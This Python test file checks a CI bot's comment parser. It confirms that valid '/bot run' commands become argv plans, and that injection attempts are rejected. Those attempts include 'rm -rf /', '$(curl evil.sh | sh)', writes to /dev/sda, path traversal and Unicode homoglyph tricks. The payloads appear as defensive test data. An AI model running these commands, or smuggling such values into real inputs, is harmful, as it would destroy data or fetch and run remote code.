"""The /bot grammar: accepted comments normalise, hostile ones are all rejected, plans are argv."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from regress.ci.bot import (
    BOOL_FLAGS,
    GLOB_CHARACTERS,
    MAX_COMMENT_BYTES,
    SHELL_METACHARACTERS,
    BotCommand,
    BotRejection,
    load_allow_list,
    match_stages,
    parse_comment,
)
from regress.ci.plan import choose_stages, plan
from regress.ci.stages import StageLists
from regress.cli import cli
from regress.errors import UsageError

GOOD = Path(__file__).resolve().parents[1] / "data" / "testlists" / "good"
LISTS = StageLists.load(GOOD)
ALLOWED = load_allow_list(GOOD / "bot-allow.txt")


def parse(comment: str, author: str = "alice"):
    return parse_comment(comment, author=author, allowed=ALLOWED, stages=LISTS.stages)


def test_allow_list_is_case_insensitive_and_ignores_comments():
    assert sorted(ALLOWED) == ["alice", "bob-smith"]
    assert parse("/bot kill", author="BOB-Smith").author == "BOB-Smith"


def test_allow_list_lines_must_be_logins(tmp_path):
    path = tmp_path / "allow.txt"
    path.write_text("alice\nrm -rf /\n")
    with pytest.raises(UsageError, match=r"allow.txt:2: 'rm -rf /' is not a GitHub login"):
        load_allow_list(path)


def test_run_with_every_kind_of_flag_normalises():
    command = parse(
        '/bot run --stage-list "H200-1, CPU-1,H200-1" --disable-fail-fast --detailed-log\n'
    )
    assert command.to_json() == {
        "schema": 1,
        "command": "run",
        "author": "alice",
        "options": {
            "stage_list": ["H200-1", "CPU-1"],
            "extra_stage": [],
            "gpu_type": [],
            "test_backend": [],
            "disable_fail_fast": True,
            "skip_test": False,
            "post_merge": False,
            "add_multi_gpu_test": False,
            "only_multi_gpu_test": False,
            "disable_multi_gpu_test": False,
            "only_perf_sanity_test": False,
            "disable_reuse_test": False,
            "detailed_log": True,
            "debug": False,
            "high_priority": False,
            "reuse_test": False,
            "reuse_pipeline_id": None,
        },
    }


@pytest.mark.parametrize(
    ("comment", "expected"),
    [
        ("/bot run", {}),
        (
            "/bot run --gpu-type h200 --test-backend PyTorch",
            {"gpu_type": ["H200"], "test_backend": ["pytorch"]},
        ),
        ("/bot run --gpu-type=B200", {"gpu_type": ["B200"]}),
        (
            '/bot run --post-merge --add-multi-gpu-test --extra-stage "CPU-1"',
            {"post_merge": True, "add_multi_gpu_test": True, "extra_stage": ["CPU-1"]},
        ),
        ("/bot run --only-multi-gpu-test", {"only_multi_gpu_test": True}),
        (
            "/bot run --disable-multi-gpu-test --skip-test",
            {"disable_multi_gpu_test": True, "skip_test": True},
        ),
    ],
)
def test_accepted_run_comments(comment, expected):
    options = parse(comment).to_json()["options"]
    for key, value in expected.items():
        assert options[key] == value


@pytest.mark.parametrize(
    ("comment", "command", "extra"),
    [
        ("/bot kill", "kill", {}),
        ("/bot reuse-pipeline", "reuse-pipeline", {}),
        ('/bot skip --comment "docs only, see #12"', "skip", {"comment": "docs only, see #12"}),
        ("/bot", "help", {}),
        ("/bot help", "help", {}),
        ("/bot --help", "help", {}),
    ],
)
def test_other_commands(comment, command, extra):
    doc = parse(comment).to_json()
    assert doc["command"] == command
    assert {k: doc[k] for k in extra} == extra
    assert ("text" in doc) == (command == "help")


@given(
    stages=st.lists(st.sampled_from(sorted(LISTS.stages)), max_size=3),
    flags=st.sets(st.sampled_from(["--disable-fail-fast", "--detailed-log"])),
)
def test_canonical_comment_parses_back_to_the_same_command(stages, flags):
    text = "/bot run " + " ".join(sorted(flags))
    if stages:
        text += ' --stage-list "' + ", ".join(stages) + '"'
    command = parse(text)
    assert parse(command.to_comment()) == command


HOSTILE = [
    ("/bot run; rm -rf /", "shell metacharacter ';'"),
    ('/bot run --stage-list "$(curl evil.sh | sh)"', "shell metacharacter '$'"),
    ("/bot run --stage-list `id`", "shell metacharacter '`'"),
    ("/bot run && reboot", "shell metacharacter '&'"),
    ("/bot run | tee /etc/passwd", "shell metacharacter '|'"),
    ("/bot run > /dev/sda", "shell metacharacter '>'"),
    ("/bot run --stage-list 'H200-1'", "shell metacharacter"),
    ("/bot run --stage-list H200-1\\", "shell metacharacter '\\\\'"),
    ("/bot run --gpu-type H200*", "shell metacharacter '*' at column 25"),
    ("/bot run --stage-list H200-?", "shell metacharacter '?'"),
    ("/bot run --stage-list Z*", "stage pattern 'Z*' matches no stage"),
    ("/bot run --stage-list H200-[9]", "unknown stage 'H200-[9]'"),
    ('/bot skip --comment "ship it!"', "shell metacharacter '!'"),
    ('/bot skip --comment "all [green]"', "shell metacharacter '['"),
    ("/bot skip --comment --stage-list=*", "shell metacharacter '*' in the reason"),
    ('/bot skip --comment --extra-stage "*"', 'use /bot skip --comment "reason"'),
    ("/bot run\nrm -rf /", "control character newline"),
    ("/bot run\r\n/bot kill", "control character carriage return"),
    ("/bot run\t--post-merge", "control character tab"),
    ("/bot run\x00", "control character NUL"),
    ("/bot run \x1b[2J", "control character U+001B"),
    ("/bot run --stage-list H200-1\uff1b id", "FULLWIDTH SEMICOLON"),  # ； looks like ;
    ("/bot run --stage-list \u041d200-1", "CYRILLIC CAPITAL LETTER EN"),  # Н looks like H
    ("/bot run \u2014post-merge", "EM DASH"),
    ("\uff0fbot run", "FULLWIDTH SOLIDUS"),
    ("/bot run\u200b", "ZERO WIDTH SPACE"),
    ("/bot run \u202e--post-merge", "RIGHT-TO-LEFT OVERRIDE"),
    ("/bot run --stage-list " + "A" * 100_000, f"over the {MAX_COMMENT_BYTES}-byte limit"),
    ("/bot run " + "x" * (MAX_COMMENT_BYTES - 8), "over the"),
    ("/bot run --stage-list ../../etc/passwd", "may hold only letters"),
    ('/bot run --stage-list "H200-1 --post-merge"', "may hold only letters"),
    ("/bot run --stage-list H200-9", "unknown stage 'H200-9'; did you mean 'H200-1'?"),
    ("/bot run --extra-stage Nope-1", "unknown stage 'Nope-1'"),
    ("/bot run --gpu-type A100", "unknown gpu type 'A100'"),
    ("/bot run --test-backend tensorrt", "unknown test backend 'tensorrt'"),
    ("/bot run --reuse-test 12ab", "optional pipeline id (digits), got '12ab'"),
    ("/bot run --reuse-test --disable-reuse-test", "--reuse-test contradicts"),
    ("/bot run --reuse-test 1 --reuse-test 2", "--reuse-test given twice"),
    ("/bot run --debug", "exactly one stage"),
    ('/bot run --debug --stage-list "H200-1, CPU-1"', "exactly one stage"),
    ("/bot run --debug --stage-list *", "exactly one stage"),
    ("/bot run --stage-list H200-1 --only-perf-sanity-test", "names the stages explicitly"),
    ("/bot run --high-priority=yes", "unknown flag"),
    (
        "/bot run --stagelist H200-1",
        "unknown flag '--stagelist' for run; did you mean '--stage-list'?",
    ),
    ("/bot run --post-merge=yes", "unknown flag"),
    ("/bot run extra", "unexpected argument 'extra'"),
    ("/bot run --stage-list", "--stage-list needs a value"),
    ("/bot run --stage-list --post-merge", "--stage-list needs a value"),
    ('/bot run --stage-list ""', "needs a comma-separated list"),
    ('/bot run --stage-list "H200-1,,CPU-1"', "needs a comma-separated list"),
    ("/bot run --post-merge --post-merge", "--post-merge given twice"),
    ('/bot run --stage-list "H200-1', "unbalanced quote"),
    ('/bot run --stage-list"H200-1"', "put a space before"),
    ("/bot run --only-multi-gpu-test --disable-multi-gpu-test", "contradicts"),
    ("/bot run --add-multi-gpu-test --disable-multi-gpu-test", "contradicts"),
    ("/bot run --skip-test --stage-list H200-1", "--skip-test runs no test stage"),
    ("/bot run --stage-list H200-1 --gpu-type H200", "names the stages explicitly"),
    ("/bot deploy", "unknown command 'deploy'"),
    ("/bot Run", "unknown command 'Run'"),
    ("/bot kill now", "kill takes no arguments"),
    ("/bot skip", 'use /bot skip --comment "reason"'),
    ('/bot skip --comment ""', 'use /bot skip --comment "reason"'),
    ("/bot help me", "help takes no arguments"),
    ("please /bot run", "starts with '/bot'"),
    ("/botrun", "starts with '/bot'"),
    ("", "starts with '/bot'"),
]


@pytest.mark.parametrize(
    ("comment", "reason"), HOSTILE, ids=[f"hostile-{i}" for i in range(len(HOSTILE))]
)
def test_hostile_and_malformed_comments_are_rejected_with_a_reason(comment, reason):
    with pytest.raises(BotRejection) as caught:
        parse(comment)
    assert caught.value.exit_code == 2
    assert reason in str(caught.value)
    message = str(caught.value)
    assert message.isascii() and message.isprintable() and len(message) < 500


@pytest.mark.parametrize(
    ("comment", "author", "reason"),
    [
        ("/bot run", "mallory", "mallory is not on the allow list"),
        ("/bot run", "alice; rm -rf /", "is not a valid GitHub login"),
        ("/bot run", "-alice", "is not a valid GitHub login"),
        ("/bot run", "\u0430lice", "is not a valid GitHub login"),  # Cyrillic а
        ("/bot run", "a" * 10_000, "is not a valid GitHub login"),
    ],
)
def test_authors_not_on_the_allow_list_are_rejected(comment, author, reason):
    with pytest.raises(BotRejection, match=reason):
        parse(comment, author=author)


def test_shlex_would_accept_what_the_grammar_rejects():
    # The defect the whitelist guards against: a shell-style split of a hostile comment yields
    # innocent-looking tokens (the payload hides inside one), so token checks alone are not enough.
    tokens = shlex.split('/bot run --stage-list "H200-1$(id)"')
    assert tokens == ["/bot", "run", "--stage-list", "H200-1$(id)"]
    with pytest.raises(BotRejection, match="shell metacharacter"):
        parse('/bot run --stage-list "H200-1$(id)"')


@given(
    st.text(
        alphabet=st.sampled_from(list(";|&$`<>(){}[]*?!~\\'\n\r\t\x00\u200b\uff1b")),
        min_size=1,
        max_size=5,
    )
)
def test_any_dangerous_character_anywhere_is_rejected(payload):
    with pytest.raises(BotRejection):
        parse(f"/bot run --stage-list H200-1{payload}x")


def names(comment: str) -> list[str]:
    return [s.name for s in choose_stages(parse(comment).options, LISTS.stages)]


@pytest.mark.parametrize(
    ("comment", "stages"),
    [
        ("/bot run", ["CPU-1", "H200-1"]),
        ("/bot run --add-multi-gpu-test", ["CPU-1", "H200-1", "B200-4"]),
        ("/bot run --only-multi-gpu-test", ["B200-4"]),
        (
            "/bot run --post-merge --add-multi-gpu-test",
            ["CPU-1", "H200-1", "B200-4", "B200-4-Post-Merge"],
        ),
        ("/bot run --gpu-type H200", ["H200-1"]),
        ("/bot run --gpu-type H200 --extra-stage B200-4", ["H200-1", "B200-4"]),
        ('/bot run --stage-list "B200-4-Post-Merge, CPU-1"', ["B200-4-Post-Merge", "CPU-1"]),
        ("/bot run --skip-test", []),
    ],
)
def test_stage_selection_follows_the_flags(comment, stages):
    assert names(comment) == stages


def test_plan_gives_argv_lists_per_stage():
    result = plan(parse('/bot run --stage-list "B200-4-Post-Merge, CPU-1" --detailed-log'), LISTS)
    doc = result.to_json()
    assert doc["action"] == "run" and doc["fail_fast"] is True
    post, cpu = doc["stages"]
    assert post["argv"] == [
        "python", "-m", "pytest",
        "--test-list", "test-lists/l0_gpu.yml",
        "--stage", "B200-4-Post-Merge",
        "--junit-xml=results/B200-4-Post-Merge/results.xml",
        "-o", "junit_suite_name=B200-4-Post-Merge",
        "--waives", "test-lists/waives.txt",
        "--require-gpu", "--gpu-per-worker",
        "-x",
        "-vv", "--log-level=DEBUG",
    ]  # fmt: skip
    assert "--require-gpu" not in cpu["argv"] and cpu["junit_xml"] == "results/CPU-1/results.xml"
    assert all(isinstance(arg, str) for stage in doc["stages"] for arg in stage["argv"])


def test_plan_for_other_commands_has_no_stages_and_fail_fast_follows_the_flag():
    assert plan(parse("/bot kill"), LISTS).to_json()["stages"] == []
    assert plan(parse("/bot run --disable-fail-fast"), LISTS).fail_fast is False


def test_a_run_selecting_nothing_is_an_error():
    with pytest.raises(UsageError, match="selects no stage"):
        plan(parse("/bot run --gpu-type B200"), LISTS)  # B200 stages are all multi-GPU


def bot_cli(*args: str, stdin: str | None = None):
    return CliRunner().invoke(cli, ["bot", *args, "--test-lists", str(GOOD)], input=stdin)


def test_cli_parse_prints_json_and_rejections_exit_2():
    ok = bot_cli("parse", "/bot run --stage-list H200-1", "--author", "alice")
    assert ok.exit_code == 0 and json.loads(ok.output)["options"]["stage_list"] == ["H200-1"]
    bad = bot_cli("parse", "/bot run; rm -rf /", "--author", "alice")
    assert bad.exit_code == 2 and "shell metacharacter ';'" in bad.output
    nobody = bot_cli("parse", "/bot run", "--author", "mallory")
    assert nobody.exit_code == 2 and "not on the allow list" in nobody.output
    # the refusal names the file to edit (issue 31: the list ships empty)
    assert f"({GOOD / 'bot-allow.txt'}: add the login there" in nobody.output


def test_cli_reads_the_comment_from_stdin():
    result = bot_cli("parse", "-", "--author", "alice", stdin="/bot kill\n")
    assert json.loads(result.output)["command"] == "kill"


def test_cli_plan_from_comment_and_from_parsed_json():
    direct = bot_cli("plan", "/bot run --gpu-type H200", "--author", "alice")
    assert direct.exit_code == 0
    parsed = bot_cli("parse", "/bot run --gpu-type H200", "--author", "alice").output
    via_json = bot_cli("plan", "--parsed", "-", stdin=parsed)
    assert via_json.exit_code == 0 and json.loads(via_json.output) == json.loads(direct.output)


def test_cli_plan_revalidates_tampered_json():
    doc = json.loads(bot_cli("parse", "/bot run --stage-list H200-1", "--author", "alice").output)
    doc["options"]["stage_list"] = ["H200-1; rm -rf /"]
    tampered = bot_cli("plan", "--parsed", "-", stdin=json.dumps(doc))
    assert tampered.exit_code == 2 and "shell metacharacter" in tampered.output
    doc["author"] = "mallory"
    doc["options"]["stage_list"] = ["H200-1"]
    assert bot_cli("plan", "--parsed", "-", stdin=json.dumps(doc)).exit_code == 2
    assert bot_cli("plan", "--parsed", "-", stdin="not json").exit_code == 2


def test_every_bool_flag_round_trips_through_the_grammar():
    for flag in BOOL_FLAGS:
        comment = f"/bot run {flag}" + (" --stage-list H200-1" if flag == "--debug" else "")
        command = parse(comment)
        assert getattr(command.options, flag[2:].replace("-", "_")) is True
        assert parse(command.to_comment()) == command


@pytest.mark.parametrize("char", sorted(SHELL_METACHARACTERS))
def test_each_shell_metacharacter_is_refused_in_free_text(char):
    # One case per character: removing any one of them from the set turns its case red.
    with pytest.raises(BotRejection, match=re.escape(f"shell metacharacter {char!r}")):
        parse(f'/bot skip --comment "ship it{char}"')


@pytest.mark.parametrize("char", sorted(SHELL_METACHARACTERS - GLOB_CHARACTERS))
def test_each_non_glob_metacharacter_is_refused_even_in_a_stage_selector(char):
    with pytest.raises(BotRejection, match=re.escape(f"shell metacharacter {char!r}")):
        parse(f'/bot run --stage-list "H200-{char}"')


def test_the_metacharacter_set_is_the_full_list():
    assert frozenset(";|&$`<>(){}[]*?!~\\'") == SHELL_METACHARACTERS
    assert len(SHELL_METACHARACTERS) == 19
    assert GLOB_CHARACTERS < SHELL_METACHARACTERS


@pytest.mark.parametrize(
    ("comment", "expected"),
    [
        ("/bot run --stage-list H200-*", {"stage_list": ["H200-1"]}),
        (
            '/bot run --stage-list "*"',
            {"stage_list": ["CPU-1", "H200-1", "B200-4", "B200-4-Post-Merge"]},
        ),
        (
            '/bot run --stage-list "B200-4*, CPU-*"',
            {"stage_list": ["B200-4", "B200-4-Post-Merge", "CPU-1"]},
        ),
        ("/bot run --stage-list=*Post-Merge", {"stage_list": ["B200-4-Post-Merge"]}),
        ('/bot run --stage-list "B200-4-[Post-Merge]"', {"stage_list": ["B200-4-Post-Merge"]}),
        ('/bot run --extra-stage "*-[Post-Merge]"', {"extra_stage": ["B200-4-Post-Merge"]}),
        (
            '/bot run --post-merge --stage-list "H200-1"',
            {"post_merge": True, "stage_list": ["H200-1"]},
        ),
        ("/bot run --reuse-test", {"reuse_test": True, "reuse_pipeline_id": None}),
        ("/bot run --reuse-test 1234", {"reuse_test": True, "reuse_pipeline_id": "1234"}),
        ("/bot run --reuse-test=77 --disable-fail-fast", {"reuse_pipeline_id": "77"}),
        ("/bot run --disable-reuse-test", {"disable_reuse_test": True}),
        ("/bot run --only-perf-sanity-test", {"only_perf_sanity_test": True}),
        ('/bot run --stage-list "H200-1" --debug', {"debug": True, "stage_list": ["H200-1"]}),
        ("/bot run --high-priority", {"high_priority": True}),
    ],
)
def test_upstream_grammar_is_accepted(comment, expected):
    command = parse(comment)
    options = command.to_json()["options"]
    assert {k: options[k] for k in expected} == expected
    assert parse(command.to_comment()) == command


@pytest.mark.parametrize("comment", ["/bot run --help", "/bot run -h", "/bot -h", "/bot --help"])
def test_run_help_is_help(comment):
    doc = parse(comment).to_json()
    assert doc["command"] == "help" and "--reuse-test" in doc["text"]


@given(
    st.text(alphabet=st.sampled_from(list("*[]-_.AB0124CPUH")), min_size=1, max_size=12).filter(
        lambda s: s[0] not in "-_."
    )
)
def test_a_stage_selector_only_ever_yields_known_stage_names(selector):
    names = list(LISTS.stages)
    assert set(match_stages(selector, names)) <= set(names)
    try:
        command = parse(f'/bot run --stage-list "{selector}"')
    except BotRejection:
        return
    assert set(command.options.stage_list) <= set(names)


def test_selectors_touch_neither_the_file_system_nor_a_shell(monkeypatch, tmp_path):
    # Plant files a shell or a glob would find, and make every such door raise.
    (tmp_path / "H200-evil").write_text("x")
    monkeypatch.chdir(tmp_path)

    def forbidden(*args, **kwargs):
        raise AssertionError(f"a selector reached {args!r}")

    import fnmatch
    import glob
    import os
    import subprocess

    for module, name in [
        (glob, "glob"),
        (glob, "iglob"),
        (fnmatch, "fnmatch"),
        (fnmatch, "fnmatchcase"),
        (fnmatch, "filter"),
        (os, "listdir"),
        (os, "scandir"),
        (os, "system"),
        (subprocess, "run"),
        (subprocess, "Popen"),
        (Path, "glob"),
        (Path, "iterdir"),
    ]:
        monkeypatch.setattr(module, name, forbidden)
    command = parse('/bot run --stage-list "H200-*, *Post-Merge, B200-[4]*"')
    assert command.options.stage_list == ("H200-1", "B200-4-Post-Merge", "B200-4")
    with pytest.raises(BotRejection, match="matches no stage"):
        parse("/bot run --stage-list H200-evil*")


def test_from_json_is_in_the_library_and_checks_types():
    doc = parse('/bot run --stage-list "H200-1" --reuse-test 5').to_json()
    assert BotCommand.from_json(doc) == parse('/bot run --stage-list "H200-1" --reuse-test 5')
    for broken in (
        [],
        {**doc, "schema": 2},
        {**doc, "author": 3},
        {**doc, "options": {"stage_list": "H200-1"}},
        {**doc, "options": {"post_merge": "yes"}},
        {**doc, "options": {"rm_rf": True}},
        {**doc, "options": {"reuse_pipeline_id": 5}},
    ):
        with pytest.raises(UsageError):
            BotCommand.from_json(broken)


def test_plan_gives_runner_labels_and_the_reuse_and_priority_flags():
    doc = plan(
        parse('/bot run --stage-list "B200-4, CPU-1" --high-priority --reuse-test 9'), LISTS
    ).to_json()
    assert [s["runs_on"] for s in doc["stages"]] == [
        ["self-hosted", "gpu", "b200", "gpus-4"],
        ["ubuntu-latest"],
    ]
    assert doc["high_priority"] is True and doc["reuse"] == "9"
    assert plan(parse("/bot run --reuse-test"), LISTS).reuse == "last"
    assert plan(parse("/bot run"), LISTS).reuse is None


@given(
    st.lists(
        st.sampled_from(
            [
                "run",
                "skip",
                "kill",
                "--comment",
                "--stage-list",
                "--extra-stage",
                "--gpu-type",
                "--stage-list=*",
                "--extra-stage=H*",
                "*",
                '"*"',
                "H200-*",
                '"x [y]"',
                "[Post-Merge]",
                "--post-merge",
                "--debug",
                "--reuse-test",
                "7",
            ]
        ),
        max_size=6,
    )
)
def test_glob_characters_survive_only_as_resolved_stage_names(words):
    try:
        command = parse("/bot " + " ".join(words))
    except BotRejection:
        return
    names = set(LISTS.stages)
    strings = [command.comment or ""]
    if command.options is not None:
        assert set(command.options.stage_list) <= names
        assert set(command.options.extra_stage) <= names
        for value in vars(command.options).values():
            strings += list(value) if isinstance(value, tuple) else [str(value)]
    assert not any(ch in text for text in strings for ch in GLOB_CHARACTERS), strings
